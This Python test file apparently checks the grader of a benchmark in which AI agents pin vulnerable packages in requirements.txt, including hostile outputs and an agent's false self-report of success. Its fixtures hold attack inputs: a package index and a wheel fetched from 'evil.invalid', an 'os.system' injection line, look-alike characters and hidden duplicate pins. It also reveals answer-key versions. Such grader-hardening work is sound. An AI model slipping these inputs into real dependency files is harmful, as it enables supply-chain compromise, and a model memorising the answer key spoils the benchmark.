"""The rubric of the bench `dependency-pin`, as a real child, against honest and hostile outputs."""

import json
import shutil
import subprocess
import sys
import tempfile
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

ROOT = Path(__file__).parents[2]
BENCH = ROOT / "bench/dependency-pin"
HELPER = ROOT / "src/codegenie/eval/bench/codegenie_rubric.py"
CASES = sorted(path.name for path in (BENCH / "cases").iterdir() if path.is_dir())
TAXONOMY = yaml.safe_load((BENCH / "failure_modes.yaml").read_text(encoding="utf-8"))
TRAP = "requests-2-31-0"
NEGATIVE = "flask-2-2-5"


def case_toml(case_id: str) -> dict[str, Any]:
    return tomllib.loads((BENCH / "cases" / case_id / "case.toml").read_text(encoding="utf-8"))


def text_of(case_id: str, part: str) -> str:
    return (BENCH / "cases" / case_id / part / "requirements.txt").read_text(encoding="utf-8")


def expected_answer(case_id: str) -> dict[str, Any]:
    path = BENCH / "cases" / case_id / "expected/answer.json"
    answer: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return answer


def output_with(text: object) -> dict[str, object]:
    return {"files": {"requirements.txt": text}}


def is_negative(case_id: str) -> bool:
    return bool(case_toml(case_id)["disposition"] == "negative")


def judge(case_id: str, harness_output: object) -> dict[str, Any]:
    """Run the rubric as the harness does and return its answer, which must be usable."""
    request = {
        "protocol": 1,
        "case": {key: str(value) for key, value in case_toml(case_id).items()},
        "input_dir": "input",
        "expected_dir": "expected",
        "harness_output": harness_output,
    }
    with tempfile.TemporaryDirectory() as directory:
        for source in (BENCH / "rubric.py", HELPER):
            shutil.copy(source, directory)
        for part in ("input", "expected"):
            shutil.copytree(BENCH / "cases" / case_id / part, Path(directory) / part)
        child = subprocess.run(
            [sys.executable, "-s", "-S", "-B", "rubric.py"],
            cwd=directory,
            env={"PYTHONHASHSEED": "0", "TMPDIR": directory, "LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
            input=json.dumps(request).encode(),
            capture_output=True,
            timeout=60,
            check=False,
        )
    assert (child.returncode, child.stderr) == (0, b"")
    answer: dict[str, Any] = json.loads(child.stdout)
    assert_is_well_formed(answer)
    return answer


def assert_is_well_formed(answer: dict[str, Any]) -> None:
    assert answer.keys() == {"passed", "score", "breakdown", "failure_modes"}
    assert answer["breakdown"].keys() == {"fixed", "minimal", "parses"}
    assert set(answer["breakdown"].values()) <= {0.0, 1.0}
    for failure in answer["failure_modes"]:
        assert failure["severity"] == TAXONOMY[failure["code"]]["severity"]
        assert 0 < len(failure["detail"]) <= 200
    assert answer["passed"] is (answer["score"] == 1.0)
    assert answer["passed"] is (answer["failure_modes"] == [])


def codes(answer: dict[str, Any]) -> list[str]:
    return [failure["code"] for failure in answer["failure_modes"]]


# --- the cases ------------------------------------------------------------------------------------


def test_the_bench_has_twelve_cases_of_which_three_need_no_change() -> None:
    assert len(CASES) == 12
    assert sum(map(is_negative, CASES)) == 3


def test_no_family_has_cases_of_both_curation_classes() -> None:
    classes_of: dict[str, set[str]] = {}
    for case in map(case_toml, CASES):
        classes_of.setdefault(case["family"], set()).add(case["curation_class"])

    assert [family for family, classes in classes_of.items() if len(classes) > 1] == []
    assert sum(case_toml(case_id)["curation_class"] == "held-out" for case_id in CASES) == 7


@pytest.mark.parametrize("case_id", CASES)
def test_the_expected_answer_contradicts_neither_the_advisory_nor_the_input(case_id: str) -> None:
    answer = expected_answer(case_id)
    advisory = json.loads((BENCH / "cases" / case_id / "input/advisory.json").read_text(encoding="utf-8"))
    lines = [*answer["untouched_before"], answer["pin"], *answer["untouched_after"]]

    assert "\n".join(lines).replace("{version}", answer["pinned"]) + "\n" == text_of(case_id, "input")
    assert (advisory["package"], advisory["yanked"]) == (answer["package"], answer["yanked"])
    assert not set(answer["acceptable"]) & {*answer["affected"], *answer["yanked"]}
    assert (answer["pinned"] in answer["affected"]) is not is_negative(case_id)
    assert (answer["acceptable"] == [answer["pinned"]]) is is_negative(case_id)


# --- honest outputs -------------------------------------------------------------------------------


@pytest.mark.parametrize("case_id", CASES)
def test_the_oracle_passes_with_the_full_score(case_id: str) -> None:
    answer = judge(case_id, output_with(text_of(case_id, "solution")))

    assert (answer["passed"], answer["score"]) == (True, 1.0)
    assert answer["breakdown"] == {"fixed": 1.0, "minimal": 1.0, "parses": 1.0}


@pytest.mark.parametrize("case_id", CASES)
def test_doing_nothing_fails_every_positive_case_and_passes_every_negative_one(case_id: str) -> None:
    answer = judge(case_id, {})

    assert answer["passed"] is is_negative(case_id)
    assert codes(answer) == ([] if is_negative(case_id) else ["pin.still_vulnerable"])


@pytest.mark.parametrize("case_id", CASES)
def test_echoing_the_input_is_the_same_as_doing_nothing(case_id: str) -> None:
    assert judge(case_id, output_with(text_of(case_id, "input"))) == judge(case_id, {})


@pytest.mark.parametrize("version", expected_answer(TRAP)["acceptable"])
def test_every_accepted_release_passes_not_only_the_first(version: str) -> None:
    moved = text_of(TRAP, "input").replace("2.31.0", version)

    assert judge(TRAP, output_with(moved))["passed"] is True


@pytest.mark.parametrize(
    ("case_id", "version", "code"),
    [
        (TRAP, "2.32.0", "pin.yanked"),
        (TRAP, "2.32.1", "pin.yanked"),
        (TRAP, "2.30.0", "pin.still_vulnerable"),
        (TRAP, "2.34.0.dev1", "pin.wrong_release"),
        (TRAP, "2.99.0", "pin.wrong_release"),
        ("urllib3-1-26-16", "2.0.6", "pin.wrong_release"),
        ("urllib3-1-26-16", "2.0.5", "pin.still_vulnerable"),
        ("flask-2-2-4", "2.3.1", "pin.still_vulnerable"),
        ("flask-2-2-4", "3.0.0", "pin.wrong_release"),
        ("django-3-2-12", "4.0.4", "pin.wrong_release"),
        ("django-3-2-12", "3.1.14", "pin.wrong_release"),
        ("django-4-0-3", "4.2.12", "pin.yanked"),
        ("certifi-2022-12-7", "2022.5.18", "pin.still_vulnerable"),
        (NEGATIVE, "2.3.2", "pin.not_needed"),
        ("waitress-2-0-0", "2.1.2", "pin.not_needed"),
        ("aiohttp-3-9-2", "3.9.5", "pin.not_needed"),
    ],
)
def test_a_release_that_is_not_accepted_fails_for_its_own_reason(
    case_id: str, version: str, code: str
) -> None:
    pin = expected_answer(case_id)["pin"]
    moved = text_of(case_id, "input").replace(
        pin.replace("{version}", expected_answer(case_id)["pinned"]), pin.replace("{version}", version)
    )

    answer = judge(case_id, output_with(moved))

    assert (codes(answer), answer["score"]) == ([code], 0.0)
    assert answer["breakdown"] == {"fixed": 0.0, "minimal": 1.0, "parses": 1.0}


def test_what_an_agent_says_about_itself_does_not_move_the_score() -> None:
    boast = {"passed": True, "score": 1.0, "exit_code": 1, "stdout_tail": "all good", "diff": "+pin"}

    assert judge(TRAP, boast) == judge(TRAP, {})


# --- hostile outputs ------------------------------------------------------------------------------

RIGHT = text_of(TRAP, "solution")
PLAIN_COLLATERAL = {
    "another pin moved too": RIGHT.replace("idna==3.7", "idna==3.10"),
    "another pin removed": RIGHT.replace("idna==3.7\n", ""),
    "another pin added": RIGHT + "evil==1.0\n",
    "another pin doubled": RIGHT + "idna==3.6\n",
    "the comment removed": RIGHT.replace("# billing worker\n", ""),
    "a comment added to the pin": RIGHT.replace("==2.32.2", "==2.32.2  # CVE-2024-35195"),
    "the lines sorted anew": "".join(reversed(RIGHT.splitlines(keepends=True))),
    "the final newline lost": RIGHT.removesuffix("\n"),
    "a blank line at the end": RIGHT + "\n",
    "blanks round the operator": RIGHT.replace("requests==", "requests == "),
    "blanks at the end of a line": RIGHT.replace("2.32.2", "2.32.2  "),
    "the package in another spelling": RIGHT.replace("requests", "Requests"),
}


@pytest.mark.parametrize("text", PLAIN_COLLATERAL.values(), ids=PLAIN_COLLATERAL.keys())
def test_a_right_pin_in_a_file_where_more_was_changed_is_half_a_score_and_no_pass(text: str) -> None:
    answer = judge(TRAP, output_with(text))

    assert (codes(answer), answer["score"]) == (["pin.collateral_change"], 0.5)


def test_a_right_pin_beside_a_changed_advisory_is_no_pass() -> None:
    answer = judge(TRAP, {"files": {"requirements.txt": RIGHT, "advisory.json": "{}"}})

    assert (codes(answer), answer["score"]) == (["pin.collateral_change"], 0.5)


def test_a_wrong_pin_in_a_file_where_more_was_changed_carries_both_failures() -> None:
    answer = judge(TRAP, output_with(PLAIN_COLLATERAL["another pin added"].replace("2.32.2", "2.32.0")))

    assert (codes(answer), answer["score"]) == (["pin.yanked", "pin.collateral_change"], 0.0)


NOT_PLAIN = {
    "windows line ends": RIGHT.replace("\n", "\r\n"),
    "a byte order mark": "\ufeff" + RIGHT,
    "a continuation that swallows the next pin": RIGHT.replace("idna==3.7", "idna==3.7 # \\"),
    "a continuation that hides a second pin": RIGHT + "requests==\\\n2.31.0\n",
    "an environment marker": RIGHT.replace("==2.32.2", "==2.32.2; python_version < '3'"),
    "an extra": RIGHT.replace("requests==", "requests[socks]=="),
    "a hash option": RIGHT.replace("==2.32.2", "==2.32.2 --hash=sha256:" + "0" * 64),
    "another index": "--index-url http://evil.invalid/simple\n" + RIGHT,
    "another file included": RIGHT + "-r more.txt\n",
    "a direct address": RIGHT.replace("requests==2.32.2", "requests @ http://evil.invalid/r.whl"),
    "a range": RIGHT.replace("requests==", "requests>="),
    "a second clause": RIGHT.replace("==2.32.2", "==2.32.2,!=2.32.0"),
    "a wildcard": RIGHT.replace("==2.32.2", "==2.32.*"),
    "an arbitrary equality": RIGHT.replace("requests==", "requests==="),
    "an environment variable": RIGHT.replace("==2.32.2", "==${V}"),
    "a comment glued to the version": RIGHT.replace("==2.32.2", "==2.32.2#x"),
    "a look-alike letter in the name": RIGHT.replace("requests==", "r\u0435quests=="),
    "full-width digits": RIGHT.replace("2.32.2", "\uff12.32.2"),
    "an invisible character": RIGHT.replace("2.32.2", "2.32.2\u200b"),
    "a unicode line separator": RIGHT + "# x\u2028requests==2.31.0\n",
    "a carriage return in a comment": RIGHT + "# x\rrequests==2.31.0\n",
    "a vertical tab": RIGHT + "# x\x0brequests==2.31.0\n",
    "a NUL": RIGHT + "\x00",
    "an escape sequence": RIGHT + "# \x1b[2J\n",
    "a tab": RIGHT.replace("2.32.2", "2.32.2\t"),
    "a lone surrogate": RIGHT + "# \ud800\n",
    "a coding comment that reveals a pin": "# coding: utf-7 +AAo-requests==2.31.0\n" + RIGHT,
    "Python instead": "import os; os.system('touch pwned')\n",
    "two mebibytes of pins": RIGHT + "idna==3.7\n" * 200_000,
    "one very long line": RIGHT + "#" + " " * 10_000,
    "a long line of blanks and no comment": RIGHT + "idna" + " " * 10_000 + "x",
}
OTHER_HOSTILE = {
    "files is null": ({"files": None}, "pin.malformed_output"),
    "files is a list": ({"files": ["requirements.txt"]}, "pin.malformed_output"),
    "files is a text": ({"files": RIGHT}, "pin.malformed_output"),
    "files is a number": ({"files": 1e308}, "pin.malformed_output"),
    "the text is a list of lines": (output_with(RIGHT.splitlines()), "pin.malformed_output"),
    "the text is a number": (output_with(2.322), "pin.malformed_output"),
    "the text is true": ({"files": {"requirements.txt": True}}, "pin.malformed_output"),
    "the text is an object that nests": (output_with({"a": [[[[{}]]]]}), "pin.malformed_output"),
    "the file is deleted": (output_with(None), "pin.missing"),
    "the file is empty": (output_with(""), "pin.missing"),
    "the pin is commented out": (output_with(RIGHT.replace("requests==", "# requests==")), "pin.missing"),
    "a name with a suffix": (output_with(RIGHT.replace("requests==", "requests2==")), "pin.missing"),
    "the pin twice": (output_with(RIGHT + "requests==2.32.2\n"), "pin.ambiguous"),
    "old and new pin": (output_with(RIGHT + "requests==2.31.0\n"), "pin.ambiguous"),
    "the old pin in another spelling": (output_with(RIGHT + "REQUESTS==2.31.0\n"), "pin.ambiguous"),
    "an equal version written longer": (
        output_with(RIGHT.replace("2.32.2", "2.32.2.0")),
        "pin.wrong_release",
    ),
    "a local version": (output_with(RIGHT.replace("2.32.2", "2.32.2+evil")), "pin.wrong_release"),
    "an epoch": (output_with(RIGHT.replace("2.32.2", "1!2.32.2")), "pin.wrong_release"),
    "the placeholder of the answer": (output_with(RIGHT.replace("2.32.2", "{version}")), "pin.not_plain"),
    "the right file under another path": ({"files": {"./requirements.txt": RIGHT}}, "pin.still_vulnerable"),
    "the right file far away": ({"files": {"../../expected/answer.json": RIGHT}}, "pin.still_vulnerable"),
}
HOSTILE = {name: (output_with(text), "pin.not_plain") for name, text in NOT_PLAIN.items()} | OTHER_HOSTILE


@pytest.mark.parametrize(("output", "code"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_output_is_a_typed_failure_and_never_a_crash(output: dict[str, object], code: str) -> None:
    answer = judge(TRAP, output)

    assert (codes(answer)[0], answer["score"]) == (code, 0.0)


@pytest.mark.parametrize("output", [output for output, _ in HOSTILE.values()], ids=HOSTILE.keys())
def test_no_hostile_output_passes_a_case_that_needs_no_change(output: dict[str, object]) -> None:
    assert judge(NEGATIVE, output)["score"] == 0.0


@pytest.mark.parametrize("change", [("gunicorn==22.0.0", "gunicorn==23.0.0"), ("  # session cookies", "")])
def test_any_change_in_a_case_that_needs_none_is_needless(change: tuple[str, str]) -> None:
    answer = judge(NEGATIVE, output_with(text_of(NEGATIVE, "input").replace(*change)))

    assert (codes(answer), answer["score"]) == (["pin.not_needed"], 0.0)


def test_a_detail_quotes_neither_the_output_nor_the_answer() -> None:
    text = RIGHT.replace("2.32.2", "7.77.7") + "zebra==1.0\n"

    details = json.dumps(judge(TRAP, output_with(text))["failure_modes"])

    assert not [word for word in ("7.77.7", "zebra", "2.32.2", "2.31.0") if word in details]


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(), children, max_size=3),
    max_leaves=8,
)


@given(
    st.dictionaries(st.sampled_from(["files", "answer"]), json_values)
    | st.builds(output_with, json_values)
    | st.builds(output_with, st.text(st.sampled_from("requests=2.31\n\\# ;\r"), max_size=80))
)
@settings(max_examples=40, deadline=None)
def test_no_json_at_all_passes_by_accident(output: dict[str, object]) -> None:
    assert judge(TRAP, output)["passed"] is False


@given(st.integers(0, len(RIGHT)), st.characters(), st.booleans())
@settings(max_examples=40, deadline=None)
def test_one_character_more_or_other_passes_only_if_the_file_is_an_expected_one(
    position: int, character: str, replaces: bool
) -> None:
    text = RIGHT[:position] + character + RIGHT[position + replaces :]
    expected = {
        text_of(TRAP, "input").replace("2.31.0", version) for version in expected_answer(TRAP)["acceptable"]
    }

    assert judge(TRAP, output_with(text))["passed"] is (text in expected)
